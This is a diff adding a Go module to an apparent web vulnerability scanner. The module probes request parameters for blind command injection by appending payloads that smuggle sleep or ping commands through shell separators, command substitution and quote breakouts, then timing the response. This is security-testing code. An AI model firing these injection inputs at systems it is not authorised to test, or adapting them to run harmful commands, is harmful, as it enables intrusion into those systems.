@@ -0,0 +1,50 @@
+package main
+
+// cmdPayloads run a delay after whatever command the value ends up in,
+// first unquoted and then breaking out of single and double quotes, with
+// the shell separators kxss already checks survive. ping counts replies a
+// second apart, so it needs one more than the delay.
+var cmdPayloads = []timedPayload{
+	{";sleep %d;", 0},
+	{"|sleep %d", 0},
+	{"&&sleep %d&&", 0},
+	{"$(sleep %d)", 0},
+	{"`sleep %d`", 0},
+	{"\nsleep %d\n", 0},
+	{"';sleep %d;'", 0},
+	{"\";sleep %d;\"", 0},
+	{"|ping -c %d 127.0.0.1", 1},
+	{"&ping -n %d 127.0.0.1&", 1},
+}
+
+var cmdCheck = injectionCheck{
+	label: "Command Injection",
+	found: func(r Result) bool { return r.CommandInjection },
+	test:  testCommandInjection,
+}
+
+func init() {
+	knownInjectionChecks = append(knownInjectionChecks, cmdCheck)
+}
+
+// testCommandInjection appends each of cmdPayloads to c's parameter and
+// reports the first that delays the response, see delayedBy.
+func testCommandInjection(c paramCheck, r *Result) error {
+	threshold, err := delayThreshold(c)
+	if err != nil {
+		return err
+	}
+	for _, p := range cmdPayloads {
+		resp, delayed, err := delayedBy(c, p, threshold)
+		if err != nil {
+			return err
+		}
+		if delayed {
+			r.CommandInjection = true
+			r.Payload = p.with(injectionDelay)
+			r.Curl = resp.curl
+			return nil
+		}
+	}
+	return nil
+}